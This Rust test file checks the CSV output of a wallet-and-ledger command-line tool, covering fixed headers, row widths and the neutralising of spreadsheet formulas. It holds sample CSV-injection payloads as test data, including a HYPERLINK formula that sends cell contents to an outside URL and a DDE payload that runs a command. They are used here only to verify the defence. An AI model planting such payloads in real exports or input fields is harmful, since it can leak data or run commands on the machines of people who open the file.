//! `-o csv`: one fixed header per command, every row under it, whatever mix of records a
//! listing holds; cells a spreadsheet would run as formulas are neutralised.

mod support;

use serde_json::Value;
use support::{s, Ledger};

/// One wallet with every transaction type (and a second wallet, a refund of each refundable
/// type, a released and an active freeze, a status change).
fn every_type() -> Ledger {
    let l = Ledger::new();
    let deposit = l.funded("u1", "1000.00");
    let payment = l.ok(&[
        "wallet",
        "payment",
        "u1",
        "--amount",
        "200",
        "--counterparty",
        "mch_1",
        "--new-counterparty",
    ]);
    let payment = s(&payment["data"]["transaction"]["id"]).to_owned();
    let withdraw = l.ok(&["wallet", "withdraw", "u1", "--amount", "50", "--reference-id", "wd-1"]);
    let withdraw = s(&withdraw["data"]["transaction"]["id"]).to_owned();
    let freeze = l.ok(&["wallet", "freeze", "u1", "--amount", "30", "--reason", "review"]);
    let freeze = s(&freeze["data"]["freeze"]["id"]).to_owned();
    l.ok(&["wallet", "unfreeze", "u1", "--freeze-id", &freeze]);
    l.ok(&["wallet", "freeze", "u1", "--amount", "10"]);
    l.ok(&[
        "wallet",
        "refund",
        "u1",
        "--transaction-id",
        &payment,
        "--amount",
        "20",
        "--reason",
        "late",
    ]);
    l.ok(&["wallet", "refund", "u1", "--transaction-id", &withdraw]);
    l.ok(&["wallet", "refund", "u1", "--transaction-id", &deposit, "--amount", "1"]);
    l.ok(&[
        "wallet", "adjust", "u1", "--credit", "3", "--reason", "goodwill", "--yes",
    ]);
    l.ok(&["wallet", "adjust", "u1", "--debit", "2", "--reason", "fee", "--yes"]);
    l.ok(&["wallet", "status", "u1", "frozen", "--reason", "audit", "--yes"]);
    l.ok(&["wallet", "status", "u1", "active", "--reason", "done"]);
    l.funded("u2", "5.00");
    l
}

/// `ledgerctl -o csv ARGS`: its header and rows, each row checked to have the header's width.
fn csv(l: &Ledger, args: &[&str]) -> (Vec<String>, Vec<Vec<String>>) {
    let out = l.cmd().args(["-o", "csv"]).args(args).output().unwrap();
    assert!(
        out.status.success(),
        "`-o csv {}` failed: {}",
        args.join(" "),
        String::from_utf8_lossy(&out.stderr)
    );
    let mut reader = csv::ReaderBuilder::new()
        .flexible(true)
        .from_reader(out.stdout.as_slice());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    for (i, row) in rows.iter().enumerate() {
        assert_eq!(
            row.len(),
            header.len(),
            "`-o csv {}`: row {} has {} fields under a header of {}: {row:?}",
            args.join(" "),
            i + 1,
            row.len(),
            header.len()
        );
    }
    (header, rows)
}

/// A JSON field as a CSV cell: absent and null are empty.
fn cell(item: &Value, field: &str) -> String {
    match item.get(field) {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(text)) => text.clone(),
        Some(other) => other.to_string(),
    }
}

/// Each CSV row holds, under each header, what the JSON listing's item holds in that field, and
/// the header names every field any item has.
fn matches_json(l: &Ledger, args: &[&str]) -> Vec<String> {
    let (header, rows) = csv(l, args);
    let json = l.ok(args);
    let items = json["items"].as_array().unwrap();
    assert_eq!(rows.len(), items.len(), "`{}`: a row per item", args.join(" "));
    for (row, item) in rows.iter().zip(items) {
        for key in item.as_object().unwrap().keys() {
            assert!(header.contains(key), "`-o csv {}`: no column for {key}", args.join(" "));
        }
        for (name, value) in header.iter().zip(row) {
            assert_eq!(
                value,
                &cell(item, name),
                "`-o csv {}`: column {name} of {item}",
                args.join(" ")
            );
        }
    }
    header
}

#[test]
fn every_csv_listing_has_one_header_and_every_row_its_width_whatever_the_transaction_types() {
    let l = every_type();
    let all = matches_json(&l, &["wallet", "history", "u1", "--page-size", "100"]);
    let types: Vec<String> = l.ok(&["wallet", "history", "u1", "--page-size", "100"])["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| s(&t["type"]).to_owned())
        .collect();
    for kind in [
        "deposit",
        "payment",
        "withdraw",
        "freeze",
        "unfreeze",
        "refund",
        "adjust_credit",
        "adjust_debit",
    ] {
        assert!(types.iter().any(|t| t == kind), "the listing holds a {kind}");
        let one = matches_json(&l, &["wallet", "history", "u1", "--type", kind]);
        assert_eq!(one, all, "one fixed header for `wallet history`, also with only {kind}");
    }
    let mixed = matches_json(
        &l,
        &["wallet", "history", "u1", "--type", "payment", "--type", "refund"],
    );
    assert_eq!(mixed, all);
    let (_, rows) = csv(
        &l,
        &["wallet", "history", "u1", "--type", "payment", "--type", "refund"],
    );
    let at = |name: &str| all.iter().position(|h| h == name).unwrap();
    for row in &rows {
        match row[at("type")].as_str() {
            "payment" => {
                assert_eq!(row[at("refunded_amount")], "20.00");
                assert_eq!(row[at("original_transaction_id")], "");
            }
            "refund" => {
                assert!(row[at("original_transaction_id")].starts_with("txn_"));
                assert_eq!(row[at("refunded_amount")], "");
            }
            other => panic!("unexpected type {other}"),
        }
    }

    matches_json(&l, &["wallet", "list"]);
    let freezes = matches_json(&l, &["wallet", "freezes", "u1"]);
    let (empty, rows) = csv(&l, &["wallet", "freezes", "u2"]);
    assert_eq!((empty, rows.len()), (freezes, 0), "an empty list is its header alone");
    matches_json(&l, &["wallet", "status", "u1"]);
    l.ok(&["token", "create", "--user", "u1"]);
    l.ok(&["token", "create", "--scope", "write", "--expires", "30d"]);
    matches_json(&l, &["token", "list"]);

    let (header, rows) = csv(&l, &["ledger", "journal", "--page-size", "100"]);
    let journal = l.ok(&["ledger", "journal", "--page-size", "100"]);
    let postings: Vec<(Value, Value)> = journal["items"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|e| {
            e["postings"]
                .as_array()
                .unwrap()
                .iter()
                .map(move |p| (e.clone(), p.clone()))
        })
        .collect();
    assert_eq!(rows.len(), postings.len(), "a row per posting");
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    for (row, (entry, posting)) in rows.iter().zip(&postings) {
        assert_eq!(row[col("transaction_id")], s(&entry["id"]));
        assert_eq!(row[col("type")], s(&entry["type"]));
        assert_eq!(row[col("account")], s(&posting["account"]));
        let amount = s(&posting["amount"]);
        match amount.strip_prefix('-') {
            Some(credit) => assert_eq!((row[col("debit")].as_str(), row[col("credit")].as_str()), ("", credit)),
            None => assert_eq!((row[col("debit")].as_str(), row[col("credit")].as_str()), (amount, "")),
        }
    }
    for kind in ["freeze", "refund", "adjust_debit"] {
        let (one, _) = csv(&l, &["ledger", "journal", "--type", kind]);
        assert_eq!(one, header, "one fixed header for `ledger journal`");
    }
}

/// What a spreadsheet runs as a formula, as API callers can send it.
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://x/?\"&A1,\"refund\")",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
];

#[test]
fn csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote() {
    let l = Ledger::new();
    l.ok(&["wallet", "create", "u1"]);
    for (i, formula) in FORMULAS.iter().enumerate() {
        let reference = format!("r{i}");
        let description = format!("--description={formula}");
        l.ok(&[
            "wallet",
            "deposit",
            "u1",
            "--amount",
            "10",
            &description,
            "--reference-id",
            &reference,
        ]);
    }
    l.ok(&["wallet", "deposit", "u1", "--amount", "1", "--description=-5.00"]);
    l.ok(&[
        "wallet",
        "payment",
        "u1",
        "--amount",
        "1",
        "--counterparty",
        "@evil",
        "--new-counterparty",
        "--reference-id=-1-1",
    ]);
    l.ok(&["wallet", "freeze", "u1", "--amount", "1", "--reason", "=1+1"]);
    l.ok(&["wallet", "status", "u1", "frozen", "--reason", "+1", "--yes"]);

    let neutralised = |cell: &str| format!("'{cell}");
    let (header, rows) = csv(&l, &["wallet", "history", "u1"]);
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let descriptions: Vec<&str> = rows.iter().map(|r| r[col("description")].as_str()).collect();
    for formula in FORMULAS {
        assert!(
            descriptions.contains(&neutralised(formula).as_str()),
            "{descriptions:?}"
        );
    }
    assert!(
        descriptions.contains(&"-5.00"),
        "a number is not a formula and stays a number: {descriptions:?}"
    );
    let payment = rows.iter().find(|r| r[col("type")] == "payment").unwrap();
    assert_eq!(payment[col("counterparty_id")], "'@evil");
    assert_eq!(payment[col("reference_id")], "'-1-1");
    assert_eq!(payment[col("amount")], "1.00");
    let (header, rows) = csv(&l, &["wallet", "freezes", "u1"]);
    assert_eq!(rows[0][header.iter().position(|h| h == "reason").unwrap()], "'=1+1");
    let (header, rows) = csv(&l, &["wallet", "status", "u1"]);
    assert_eq!(rows[0][header.iter().position(|h| h == "reason").unwrap()], "'+1");

    let out = l.cmd().args(["ledger", "export", "--format", "csv"]).output().unwrap();
    assert!(out.status.success());
    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    for formula in FORMULAS {
        assert!(
            rows.iter().any(|r| r[col("description")] == neutralised(formula)),
            "export: {formula}"
        );
    }
    assert!(rows.iter().any(|r| &r[col("reference_id")] == "'-1-1"));
    assert!(rows.iter().any(|r| &r[col("description")] == "-5.00"));
    for row in &rows {
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '@']) && (!cell.starts_with('-') || cell == "-5.00"),
                "export cell {cell:?}"
            );
        }
    }
}
